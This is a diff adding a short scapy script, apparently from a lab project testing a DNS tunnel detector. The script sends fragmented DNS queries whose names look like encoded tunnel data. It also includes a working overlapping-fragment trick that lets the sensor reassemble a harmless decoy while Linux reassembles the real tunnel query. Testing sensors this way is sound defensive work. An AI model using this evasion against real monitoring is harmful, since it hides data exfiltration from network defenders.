@@ -1,0 +1,48 @@
+#!/usr/bin/python3
+"""frag.py SERVER - IPv4 fragments of DNS queries to SERVER:53 (scapy, raw IP
+from the lab's client; /usr/bin/python3 for scapy), FINDINGS.md R20-3:
+  1. a tunnel-style query in two fragments, the name split (both read it);
+  2. the decoy of docs/architecture.md "Overlapping fragments": the head of a
+     decoy query (www-style name), a fragment that partly overlaps it (Linux
+     discards that datagram), the shared tail (which completes the decoy in
+     the sensor, whose first-arrived bytes win, and starts a new datagram in
+     Linux), then the real query's head (Linux completes the real query).
+One packet at a time, 0.2 s apart."""
+import sys, time
+from scapy.all import IP, UDP, DNS, DNSQR, Raw, send, conf
+
+conf.verb = 0
+SERVER = sys.argv[1]
+SRC = "10.53.3.10"
+
+
+def udp_bytes(name, sport, dnsid):
+    p = IP(src=SRC, dst=SERVER) / UDP(sport=sport, dport=53) / DNS(id=dnsid, rd=1, qd=DNSQR(qname=name))
+    p = IP(bytes(p))   # the checksums computed
+    return bytes(p[UDP])
+
+
+def frag(ipid, off, data, mf):
+    return IP(src=SRC, dst=SERVER, id=ipid, proto=17, flags="MF" if mf else 0, frag=off // 8) / Raw(data)
+
+
+# 1. in order, the name split between the fragments
+u = udp_bytes("fragtestmzxw6ytboi4dcnzr.gezdgnbvgy3tqojq.f01.exfil-lab.com", 40001, 0x6101)
+send(frag(0x7101, 0, u[:32], True))
+time.sleep(0.2)
+send(frag(0x7101, 32, u[32:], False))
+time.sleep(0.5)
+
+# 2. decoy and real query of the same length and the same tail
+decoy = udp_bytes("wwwwwwwwwwwwwwwwwwwwgezdgnbvgy3tqojq00.f02.exfil-lab.com", 40002, 0x6102)
+real = udp_bytes("mzxw6ytboi4dcnzrgy3tgezdgnbvgy3tqojq00.f02.exfil-lab.com", 40002, 0x6102)
+k = 56                      # both heads: [0, 56); the tail from 56 is the same
+assert len(decoy) == len(real) and decoy[k - 8:] == real[k - 8:]
+send(frag(0x7102, 0, decoy[:k], True))               # decoy head
+time.sleep(0.2)
+send(frag(0x7102, k - 8, real[k - 8:k + 8], True))   # overlaps [48, 56): Linux drops the datagram
+time.sleep(0.2)
+send(frag(0x7102, k, real[k:], False))               # shared tail: completes the decoy in the sensor
+time.sleep(0.2)
+send(frag(0x7102, 0, real[:k], True))                # Linux: tail + this = the real query
+time.sleep(0.5)
